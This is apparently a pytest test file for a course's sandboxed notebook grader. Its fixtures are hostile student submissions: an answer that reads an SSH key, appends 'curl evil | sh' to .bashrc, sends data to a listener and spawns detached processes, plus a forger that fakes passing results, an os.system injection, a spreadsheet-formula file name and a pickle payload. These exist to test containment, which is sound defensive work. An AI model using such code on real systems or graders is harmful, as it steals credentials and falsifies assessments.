"""The instructor's grader on a class of honest, broken, cheating, harmful and malformed submissions.

A small lesson of the course's own shape is handed out from a course root of its own: lesson 00's
title, install cell and four exercises (with lesson 00's own answers). Its set-up cell binds
``checks`` to a stub, so that the kernels start without TensorFlow: the grade never comes from the
kernel anyway, but from the course's checks run in the grader's process on stand-ins for the
learner's functions. `python -m course grade` runs the class folder once per module, in the sandbox.
"""
import copy
import csv
import json
import socket
import subprocess
import time

import pytest

from course import cli, grading, notebooks, sandbox

needs_sandbox = pytest.mark.skipif(sandbox.unavailable() is not None,
                                   reason=f"no bubblewrap sandbox here: {sandbox.unavailable()}")
EXERCISES = ("ex1", "ex2", "ex3", "ex4")
STUB = '''import numpy as np


class checks:  # this small lesson's kernel-side self-checks hand the answer back; the grader judges
    check_linear_regression = check_logistic_gradient = check_flatten_images = check_hide_labels = (
        staticmethod(lambda answer: answer))'''


def _cell(cid, kind, source):
    cell = {"cell_type": kind, "id": cid, "metadata": {}, "source": source}
    if kind == "code":
        cell.update(outputs=[], execution_count=None)
    return cell


def _lesson():
    """Lesson 00's title, install cell and exercises (solution text included), and a stub set-up."""
    real = {c["id"]: c for c in notebooks.read(notebooks.project_root() / "solutions" / "00_foundations.ipynb")["cells"]}
    title = real["title"]["source"].replace("Lesson 00", "Lesson 07").replace("00_foundations", "07_small")
    cells = [_cell("title", "markdown", title), _cell("install", "code", real["install"]["source"]),
             _cell("setup", "code", STUB)]
    cells += [_cell(cid, "code", real[cid]["source"].split("\ncourse.show_source")[0]) for cid in EXERCISES]
    cells.append(_cell("scoreboard", "markdown", "That is all."))
    return {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                         "language": "python"}}, "nbformat": 4, "nbformat_minor": 5}


SOLUTION = _lesson()
STUDENT = notebooks.student_version(SOLUTION)


def _answer(student, cid, body):
    """The student copy with exercise ``cid`` answered by ``body`` (it replaces the indented placeholder)."""
    nb = copy.deepcopy(student)
    for cell in nb["cells"]:
        if cell["id"] == cid:
            cell["source"] = cell["source"].replace("    raise NotImplementedError()", body, 1)
    return nb


def _solved_body(cid):
    source = next(c["source"] for c in SOLUTION["cells"] if c["id"] == cid)
    return source.split("### BEGIN SOLUTION\n")[1].split("    ### END SOLUTION")[0].rstrip()


def _write(path, nb):
    path.parent.mkdir(parents=True, exist_ok=True)
    well_formed = isinstance(nb, dict) and all(isinstance(c, dict) for c in nb.get("cells", [None]))
    path.write_text(notebooks.render(nb) if well_formed else json.dumps(nb))


FORGER = '''    return None, None


import os
checks._run = lambda exercise, title, test, answer, fallback: answer  # the runner says "correct"
get_ipython().events.register("post_run_cell", lambda result: open(os.environ.get("COURSE_CHECKS_LOG", "/tmp/log"), "a").write(
    '{"exercise": "00.1", "title": "t", "status": "correct", "message": "", "hint": ""}\\n'))
checks = type("checks", (), {"check_logistic_gradient": staticmethod(lambda f: f)})'''


def _harm(paths, port):
    """An answer that tries to read, write, call out, eat memory and outlive the grader."""
    return f'''    return None, None


import os, socket, subprocess
found = {{}}
for name, path in {paths!r}.items():
    try:
        found[name] = open(path).read()
    except OSError as err:
        found[name] = type(err).__name__
for path in ({str(paths["bashrc"])!r}, {str(paths["other"])!r}):
    try:
        with open(path, "a") as f:
            f.write("curl evil | sh")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
except OSError:
    pass
try:
    hog = bytearray(64 << 30)
except MemoryError:
    pass
subprocess.Popen(["sleep", "47.25"], start_new_session=True)
raise ValueError("leaked: " + repr(found))'''


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("grading")
    root, class_ = tmp / "course", tmp / "submissions"
    _write(root / "solutions" / "07_small.ipynb", SOLUTION)
    home = tmp / "teacher"
    secret = home / ".ssh" / "id_rsa"
    secret.parent.mkdir(parents=True)
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY----- teacher's key")
    (home / ".bashrc").write_text("# teacher's shell\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.1)
    half = _answer(STUDENT, "ex1", _solved_body("ex1"))
    files = {
        "alice/lesson.ipynb": SOLUTION,  # two files of the same name, told apart by their folders
        "bob/lesson.ipynb": STUDENT,
        "half.ipynb": half,
        "crashing.ipynb": _answer(_answer(STUDENT, "ex1", "    w, *_ = np.linalg.lstsq(x, y, rcond=None)\n"
                                                          "    return w, np.mean(y - x @ w)"),
                                  "ex2", "    return [g for g in w if]"),
        "endless.ipynb": _answer(STUDENT, "ex1", "    while True:\n        pass\n\n\nfit_linear_regression(1, 2)"),
        "forger.ipynb": _answer(STUDENT, "ex1", FORGER),
        "tampered.ipynb": {**SOLUTION, "cells": [*SOLUTION["cells"][:2], _cell("setup", "code", STUB + "\nx = 1"),
                                                 *SOLUTION["cells"][3:]]},
        "list.ipynb": [1, 2, 3],
        "string-cell.ipynb": {**STUDENT, "cells": [STUDENT["cells"][0], "print('a cell')"]},
        "no-cells.ipynb": {**STUDENT, "cells": []},
        '=HYPERLINK("evil.invalid","x").ipynb': "not a notebook",
        "unknown.ipynb": {**STUDENT, "cells": [_cell("a", "code", "1"), _cell("b", "code", "2")]},
    }
    other = class_ / "alice" / "lesson.ipynb"
    paths = {"key": str(secret), "bashrc": str(home / ".bashrc"), "other": str(other)}
    files["harm.ipynb"] = _answer(STUDENT, "ex1", _harm(paths, listener.getsockname()[1]))
    for name, nb in files.items():
        _write(class_ / name, nb)
    before = {p: p.read_bytes() for p in (secret, home / ".bashrc", other)}
    out = tmp / "grades.csv"
    started = time.monotonic()
    code = cli.main(["grade", str(class_), "--root", str(root), "--timeout", "8", "--out", str(out)])
    seconds = time.monotonic() - started
    try:
        connection = listener.accept()
    except OSError:
        connection = None
    listener.close()
    assert code == 0
    rows = list(csv.DictReader(out.open()))
    return {"rows": {(r["submission"], r["exercise"]): r for r in rows}, "list": rows, "csv": out.read_text(),
            "before": before, "connection": connection, "seconds": seconds}


def result(graded, name, exercise):
    return graded["rows"][(name, exercise)]["result"]


@needs_sandbox
def test_the_controls_grade_four_and_zero_by_their_folder_names(graded):
    for ex in ("00.1", "00.2", "00.3", "00.4"):
        assert result(graded, "alice/lesson.ipynb", ex) == "passed"
        assert result(graded, "bob/lesson.ipynb", ex) == "not done"
    assert result(graded, "half.ipynb", "00.1") == "passed" and result(graded, "half.ipynb", "00.2") == "not done"
    honest = [r for r in graded["list"] if r["submission"] in ("alice/lesson.ipynb", "bob/lesson.ipynb", "half.ipynb")]
    assert not any(r["flags"] for r in honest) and all(r["sandbox"] == "yes" for r in honest)


@needs_sandbox
def test_a_crash_and_an_endless_loop_stop_that_submission_only(graded):
    wrong = graded["rows"][("crashing.ipynb", "00.1")]
    assert wrong["result"] == "wrong" and "through the origin" in wrong["detail"] and "hint" in wrong["detail"]
    stopped = graded["rows"][("crashing.ipynb", "00.2")]
    assert stopped["result"] == "not reached" and "cell 5 (ex2)" in stopped["detail"] and "SyntaxError" in stopped["detail"]
    endless = graded["rows"][("endless.ipynb", "00.1")]
    assert endless["result"] == "not reached" and "cell 4 (ex1): still running after 8 s, stopped" in endless["detail"]


@needs_sandbox
def test_a_kernel_that_forges_its_results_gets_no_marks_and_is_flagged(graded):
    rows = [r for r in graded["list"] if r["submission"] == "forger.ipynb"]
    assert rows[0]["result"] == "wrong" and all(r["result"] != "passed" for r in rows)
    assert all("the answer reaches into the self-checks (_run, checks)" in r["flags"] for r in rows)
    assert "cell 3 (setup) changed" in graded["rows"][("tampered.ipynb", "00.4")]["flags"]


@needs_sandbox
def test_harm_is_contained(graded):
    for path, content in graded["before"].items():
        assert path.read_bytes() == content, path  # the key unread, .bashrc and alice's notebook untouched
    assert "teacher's key" not in graded["csv"]
    row = graded["rows"][("harm.ipynb", "00.1")]
    assert "FileNotFoundError" in row["detail"] or "PermissionError" in row["detail"]
    assert graded["connection"] is None  # nothing reached the grader's loopback
    leftovers = subprocess.run(["pgrep", "-f", "sleep 47.25"], capture_output=True, text=True).stdout.split()
    assert leftovers == []  # the detached process died with its sandbox


@needs_sandbox
def test_every_file_gets_a_row_and_the_csv_holds_no_formula(graded):
    rows = graded["rows"]
    assert rows[("list.ipynb", "")]["result"] == "not a notebook"
    assert "cell 2 is not a notebook cell" in rows[("string-cell.ipynb", "")]["detail"]
    assert "no cells" in rows[("no-cells.ipynb", "")]["detail"]
    assert rows[("unknown.ipynb", "")]["result"] == "unknown lesson"
    escaped = "'=HYPERLINK(\"evil.invalid\",\"x\").ipynb"
    assert rows[(escaped, "")]["result"] == "not a notebook"
    assert not any(value.startswith(("=", "+", "-", "@")) for r in graded["list"] for value in r.values())
    assert len({r["submission"] for r in graded["list"]}) == 13


def _flags(nb):
    return grading.tampering(nb, STUDENT)


@pytest.mark.parametrize("body, reaches", [
    ("    return None, None\n\n\nchecks._run = lambda e, t, test, answer, fallback: answer", "the self-checks (_run, checks)"),
    ("    return foundations.linear_regression(x, y)", "the course's own code (foundations, linear_regression)"),
    ("    from course.foundations import linear_regression\n    return linear_regression(x, y)",
     "the course's own code (course, foundations, linear_regression)"),
    ("    import course\n    text = open(course.__file__.replace('course/__init__.py', 'solutions/x')).read()",
     "the solutions (__file__)"),
    ("    text = open('/proc/1/cmdline').read()", "names of the course in strings (/proc)"),
    ("    return None, None\n\n\nget_ipython().events.register('post_run_cell', lambda r: open("
     "os.environ['COURSE_CHECKS_LOG'], 'a').write('correct'))", "the interpreter's internals (get_ipython)"),
    ("    return None, None\n\n\nchecks = type('c', (), {})", "the self-checks (checks)"),
    ("    return getattr(__import__('cour' + 'se'), 'foundations').linear_regression(x, y)",
     "the interpreter's internals (__import__, getattr)"),
    ("    import sys\n    return sys.modules['course.foundations'].linear_regression(x, y)",
     "the interpreter's internals (sys.modules)"),
    ("    !cat /etc/passwd\n    return None, None", "shell or magic line"),
])
def test_answers_that_reach_where_they_should_not_are_flagged(body, reaches):
    (flag,) = _flags(_answer(STUDENT, "ex1", body))
    assert flag.startswith("cell 4 (ex1): the answer reaches into") and reaches in flag, flag


def test_honest_answers_and_a_fork_are_not_flagged():
    assert _flags(SOLUTION) == []
    assert _flags(_answer(STUDENT, "ex1", "    design = np.c_[np.ones(len(x)), x]  # the course's trick\n"
                                          "    theta = np.linalg.lstsq(design, y, rcond=None)[0]\n"
                                          "    return theta[1:], theta[0]")) == []
    fork = notebooks.student_version(SOLUTION, "https://github.com/teacher/fork", "spring-2027", "07_small.ipynb")
    assert _flags(fork) == []


def test_no_lesson_of_the_course_flags_its_own_solution_or_student_copy():
    root = notebooks.project_root()
    for path in sorted((root / "solutions").glob("*.ipynb")):
        student = grading.reference(root, path.stem)
        assert grading.tampering(notebooks.read(path), student) == [], path.name
        assert grading.tampering(notebooks.read(root / "notebooks" / path.name), student) == [], path.name
        assert len(grading.exercises(student)) >= 2, path.name


def test_cells_and_stamped_lines_changed_outside_the_answers_are_flagged():
    def edited(change):
        nb = copy.deepcopy(STUDENT)
        change(nb["cells"])
        return _flags(nb)

    assert edited(lambda c: c.append(_cell("ex2", "code", "checks.RESULTS.clear()"))) == ["cell id 'ex2' is used 2 times"]
    assert edited(lambda c: c[3].pop("id")) == ["cell 4 has no id", "cell 4 (ex1) deleted", "a code cell was added (None)"]
    assert edited(lambda c: c.append(_cell("new", "code", "x = 1"))) == ["a code cell was added (new)"]
    assert edited(lambda c: c.insert(4, c.pop(5))) == ["cells were moved"]
    smuggled = 'COURSE_REPOSITORY = "https://github.com/x/y"; import os; os.system("id") #"'

    def smuggle(cells):
        cells[1]["source"] = cells[1]["source"].replace('COURSE_REPOSITORY = "https://github.com/generative-course/course"',
                                                        smuggled)
    assert edited(smuggle) == ["cell 2 (install) changed"]
    assert edited(lambda c: c[3].update(source=c[3]["source"].replace("checks.check_", "check_"))) == [
        "cell 4 (ex1): the exercise's definition or self-check line changed"]


def test_a_re_measured_or_deleted_cost_line_is_not_a_change_but_code_after_it_is():
    from course import lesson_costs

    def with_first_line(line):
        nb = copy.deepcopy(STUDENT)
        cell = nb["cells"][-1]
        cell["source"] = line + "\n" + cell["source"]
        return nb

    handed_out = with_first_line(lesson_costs.PREFIX + " about 6 minutes (5 epochs x 54,000 MNIST images at 816 images/s).")
    re_measured = with_first_line(lesson_costs.PREFIX + " about 9 minutes (5 epochs x 54,000 MNIST images at 544 images/s).")
    assert grading.tampering(handed_out, re_measured) == []
    assert grading.tampering(STUDENT, re_measured) == []  # the student deleted the line
    smuggled = with_first_line(lesson_costs.PREFIX + " about 6 minutes.\nimport os")
    assert grading.tampering(smuggled, re_measured) != []


def test_the_summary_counts_flagged_submissions_apart():
    subs = [grading.Submission("a.ipynb", "07", rows=[grading.Row("a.ipynb", "00.1", "t", "passed")]),
            grading.Submission("b.ipynb", "07", flags=["cell 2 changed"], rows=[grading.Row("b.ipynb", "00.1", "t",
                                                                                            "passed")])]
    table = grading.summary(subs)
    assert "b.ipynb: 1 of 1 passed [FLAGGED (cell 2 changed)]" in table
    line = next(line for line in table.splitlines() if line.startswith("00.1"))
    assert line.split()[:7] == ["00.1", "1", "0", "0", "0", "0", "1"]


def test_another_lesson_gets_a_row(tmp_path):
    root = tmp_path / "course"
    _write(root / "solutions" / "07_small.ipynb", SOLUTION)
    _write(root / "solutions" / "08_other.ipynb", {**SOLUTION, "cells": [_cell("o", "code", "1")]})
    _write(tmp_path / "in" / "08_other.ipynb", {**SOLUTION, "cells": [_cell("o", "code", "1")]})
    references = {name: grading.reference(root, name) for name in ("07_small", "08_other")}
    sub = grading.grade_one(tmp_path / "in" / "08_other.ipynb", "08_other.ipynb", root, "07_small", 5, tmp_path,
                            references)
    assert [(r.result, r.exercise) for r in sub.rows] == [("another lesson", "")] and "--lesson 08" in sub.rows[0].detail


def test_no_sandbox_refuses_in_one_line_and_an_unsafe_out_is_refused(tmp_path, monkeypatch, capsys):
    _write(tmp_path / "class" / "a.ipynb", STUDENT)
    _write(tmp_path / "course" / "solutions" / "07_small.ipynb", SOLUTION)
    monkeypatch.setattr(sandbox, "unavailable", lambda: "`bwrap` is not installed")
    args = ["grade", str(tmp_path / "class"), "--root", str(tmp_path / "course")]
    assert cli.main(args) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "bubblewrap" in err and "--no-sandbox" in err
    assert cli.main(args + ["--out", str(tmp_path / "class" / "grades.csv")]) == 2
    assert "inside the submissions folder" in capsys.readouterr().err


def test_without_the_sandbox_it_warns_and_the_csv_says_so(tmp_path, capsys):
    _write(tmp_path / "class" / "a.ipynb", _answer(STUDENT, "ex1", _solved_body("ex1")))
    _write(tmp_path / "course" / "solutions" / "07_small.ipynb", SOLUTION)
    out = tmp_path / "grades.csv"
    assert cli.main(["grade", str(tmp_path / "class"), "--root", str(tmp_path / "course"), "--no-sandbox",
                     "--timeout", "20", "--out", str(out)]) == 0
    assert "WARNING: --no-sandbox" in capsys.readouterr().err
    rows = list(csv.DictReader(out.open()))
    assert rows[0]["result"] == "passed" and {r["sandbox"] for r in rows} == {"NO (--no-sandbox)"}


def test_bad_input_is_refused_before_anything_runs(tmp_path):
    with pytest.raises(Exception, match="not a folder"):
        grading.grade(tmp_path / "missing")
    (tmp_path / "empty").mkdir()
    with pytest.raises(Exception, match="no .ipynb"):
        grading.grade(tmp_path / "empty")
    _write(tmp_path / "one" / "x.ipynb", _lesson())
    with pytest.raises(Exception, match="no single lesson matches '99'"):
        grading.grade(tmp_path / "one", root=notebooks.project_root(), lesson="99")


def test_plain_data_crosses_and_nothing_else_does():
    import numpy as np

    value = (np.arange(6.0).reshape(2, 3), 1.5, [None, "a", np.int64(3)], {"k": np.ones(2, "uint8")})
    back = grading._decode(json.loads(json.dumps(grading._encode(value))))
    assert np.array_equal(back[0], value[0]) and back[1] == 1.5 and back[2][:2] == [None, "a"] and back[2][2] == 3
    with pytest.raises(TypeError):
        grading._encode(object())
    with pytest.raises(TypeError):
        grading._encode(np.array([object()]))
    pickled = {"ndarray": __import__("base64").b64encode(
        __import__("pickle").dumps(np.array([object()], dtype=object))).decode()}
    with pytest.raises(ValueError):
        grading._decode(pickled)


def test_links_and_terminal_escapes_get_a_plain_row(tmp_path):
    root = tmp_path / "course"
    _write(root / "solutions" / "07_small.ipynb", SOLUTION)
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "key.ipynb").symlink_to(tmp_path / "course" / "solutions" / "07_small.ipynb")
    references = {"07_small": grading.reference(root, "07_small")}
    sub = grading.grade_one(tmp_path / "in" / "key.ipynb", "key.ipynb", root, None, 5, tmp_path, references)
    assert [(r.result, r.exercise) for r in sub.rows] == [("not a notebook", "")] and "link" in sub.rows[0].detail
    sub.name = "x\x1b]0;owned\x07.ipynb"
    assert "\x1b" not in grading.line(sub) and "\x07" not in grading.line(sub)


class _FakeKernel:
    """Answers every call of the grader's stand-in with ``reply`` (what a kernel could print)."""

    def __init__(self, reply):
        self.reply = reply

    def execute(self, code, deadline, limit, silent=False):
        import base64

        body = self.reply if isinstance(self.reply, str) else base64.b64encode(json.dumps(self.reply).encode()).decode()
        return None, f"noise\n{grading._MARKER}{body}\n"


@pytest.mark.parametrize("reply, expected", [
    ({"not_plain": "a Functional"}, "unverified"),  # a Keras model does not cross the sandbox
    ({"raised": "NotImplementedError", "message": "", "not_implemented": True}, "not done"),
    ({"result": {"ndarray": "gASVAAAAAAAAAAA="}}, "wrong"),  # pickle bytes: refused, not loaded
    ("%%% not base64 %%%", "wrong"),
])
def test_the_verdict_takes_only_plain_data_from_the_kernel(reply, expected):
    cell = ("def build_small_cnn(input_shape, num_classes):\n    raise NotImplementedError()\n\n\n"
            "build_small_cnn = checks.check_classifier(build_small_cnn)")
    exercise = grading._exercise(cell)
    exercise_id, result, detail = grading.verdict(exercise, _FakeKernel(reply), time.monotonic() + 30, 30)
    assert (exercise_id, result) == ("01.2", expected), detail


def test_the_kernel_side_call_encodes_as_the_grader_decodes(capsys):
    """What runs in the kernel (the grader's own _encode inserted into the call) returns the learner's
    answer as plain data that the grader decodes back to the same values; a non-plain answer is named."""
    import base64

    import numpy as np

    namespace = {}
    exec(grading._call_source(), namespace)
    answer = {"grid": [np.arange(6, dtype=np.float32).reshape(2, 3), (1, 2.5, None, "x")], "flag": True}
    learner = {"solve": lambda x, scale=1: {**answer, "echo": x * scale},
               "bad": lambda: object()}
    request = json.dumps(grading._encode({"args": (np.ones(2),), "kwargs": {"scale": 3}}))

    def reply(name, request):
        namespace["__course_grader_call"](learner, name, request)
        lines = [line for line in capsys.readouterr().out.split("\n") if grading._MARKER in line]
        assert len(lines) == 1
        return json.loads(base64.b64decode(lines[0].split(grading._MARKER, 1)[1]))

    back = grading._decode(reply("solve", request)["result"])
    np.testing.assert_array_equal(back["grid"][0], answer["grid"][0])
    assert back["grid"][1] == (1, 2.5, None, "x") and back["flag"] is True
    np.testing.assert_array_equal(back["echo"], np.full(2, 3.0))
    empty = json.dumps(grading._encode({"args": (), "kwargs": {}}))
    assert "object" in reply("bad", empty)["not_plain"]
    assert reply("missing", empty)["raised"] == "NameError"
